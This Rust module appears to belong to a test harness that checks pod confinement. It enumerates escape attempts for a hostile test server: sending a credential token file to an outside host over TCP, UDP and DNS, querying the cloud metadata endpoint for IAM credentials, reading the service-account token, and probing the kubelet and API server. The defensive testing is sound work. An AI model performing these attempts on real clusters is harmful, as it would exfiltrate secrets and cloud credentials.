//! The attempts to escape that the hostile server makes, and how each went.

use crate::{Result, caller::Caller};
use serde::Deserialize;
use serde_json::{Value, json};

/// Where the credential file is, in the hardened pod and in the plain one.
pub const TOKEN_FILE: &str = "/var/run/secrets/sallyport/upstream/token";

/// Path of the service-account token that Kubernetes mounts by default.
const ACCOUNT_TOKEN: &str = "/var/run/secrets/kubernetes.io/serviceaccount/token";

/// Where clouds answer their machines' questions.
pub const METADATA: &str = "169.254.169.254";

/// What can be aimed at.
#[derive(Clone, Debug)]
pub struct Targets {
    /// Address of a host outside of the cluster that listens on TCP 80 and 443 and UDP 514, and answers
    /// DNS on UDP 53; none on a cluster without
    /// an outside world of its own.
    pub outside: Option<String>,
    /// Whether a metadata service answers, as in a cloud.
    pub metadata: bool,
    /// Address of another pod that serves HTTP on port 8080.
    pub pod: String,
    /// ClusterIP of the API server.
    pub api_server: String,
    /// ClusterIP of the cluster's DNS.
    pub dns: String,
    /// Address of a node, where a kubelet listens.
    pub node: String,
}

/// One attempt.
#[derive(Clone, Debug)]
pub struct Attempt {
    /// What is tried, for people.
    pub title: &'static str,
    /// Arguments of the tool `escape`.
    pub arguments: Value,
}

/// How an attempt went, as the hostile server itself tells.
#[derive(Clone, Debug, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct Outcome {
    /// Whether it succeeded.
    pub succeeded: bool,
    /// How, or why not.
    pub detail: String,
    /// What was read, if something was.
    #[serde(default)]
    pub content: Value,
    /// How long it took.
    pub elapsed_ms: u64,
}

/// All attempts at `targets`.
pub fn attempts(targets: &Targets) -> Vec<Attempt> {
    let attempt = |title, arguments| Attempt { title, arguments };
    let outside = targets.outside.iter().flat_map(|host| {
        [
            attempt(
                "send the credential file outside, TCP port 80",
                json!({ "attempt": "tcp", "host": host, "port": 80, "file": TOKEN_FILE }),
            ),
            attempt(
                "send the credential file outside, TCP port 443",
                json!({ "attempt": "tcp", "host": host, "port": 443, "file": TOKEN_FILE }),
            ),
            attempt(
                "fetch a page from an outside host",
                json!({ "attempt": "http", "url": format!("http://{host}/") }),
            ),
            attempt(
                "send the credential file outside, UDP port 514",
                json!({ "attempt": "udp", "host": host, "port": 514, "file": TOKEN_FILE }),
            ),
            attempt(
                "send data in a DNS name, outside",
                json!({ "attempt": "dns", "name": "c2VjcmV0.outside.test", "server": host }),
            ),
        ]
    });
    let metadata = targets.metadata.then(|| {
        let url = format!("http://{METADATA}/latest/meta-data/iam/security-credentials/");
        attempt(
            "ask the cloud's metadata service for the node's credentials",
            json!({ "attempt": "http", "url": url }),
        )
    });
    outside.chain(metadata).chain(inside(targets)).collect()
}

/// Whether an attempt goes over the network, as opposed to what the container's own confinement refuses.
pub fn is_over_network(attempt: &Attempt) -> bool {
    ["tcp", "udp", "dns", "http"]
        .iter()
        .any(|kind| attempt.arguments["attempt"] == *kind)
}

fn inside(targets: &Targets) -> [Attempt; 7] {
    let attempt = |title, arguments| Attempt { title, arguments };
    [
        attempt(
            "call another pod",
            json!({ "attempt": "http", "url": format!("http://{}:8080/", targets.pod) }),
        ),
        attempt(
            "call the API server",
            json!({ "attempt": "http", "url": format!("https://{}/version", targets.api_server) }),
        ),
        attempt(
            "call the node's kubelet",
            json!({ "attempt": "http", "url": format!("https://{}:10250/pods", targets.node) }),
        ),
        attempt(
            "send data in a DNS name, by the pod's resolver",
            json!({ "attempt": "dns", "name": "c2VjcmV0.outside.test" }),
        ),
        attempt(
            "send data in a DNS name, to the cluster's DNS",
            json!({ "attempt": "dns", "name": "c2VjcmV0.outside.test", "server": targets.dns }),
        ),
        attempt(
            "write to the root file system",
            json!({ "attempt": "write_root", "path": "/app/state/dropped" }),
        ),
        attempt(
            "read a service-account token",
            json!({ "attempt": "read_file", "path": ACCOUNT_TOKEN }),
        ),
    ]
}

/// Has the hostile server at `url` make the attempt.
///
/// # Errors
///
/// When the server cannot be called.
pub async fn make(caller: &Caller, url: &str, attempt: &Attempt) -> Result<Outcome> {
    let answer = caller.call(url, "escape", &attempt.arguments).await?;
    Ok(serde_json::from_str(answer.text()?)?)
}
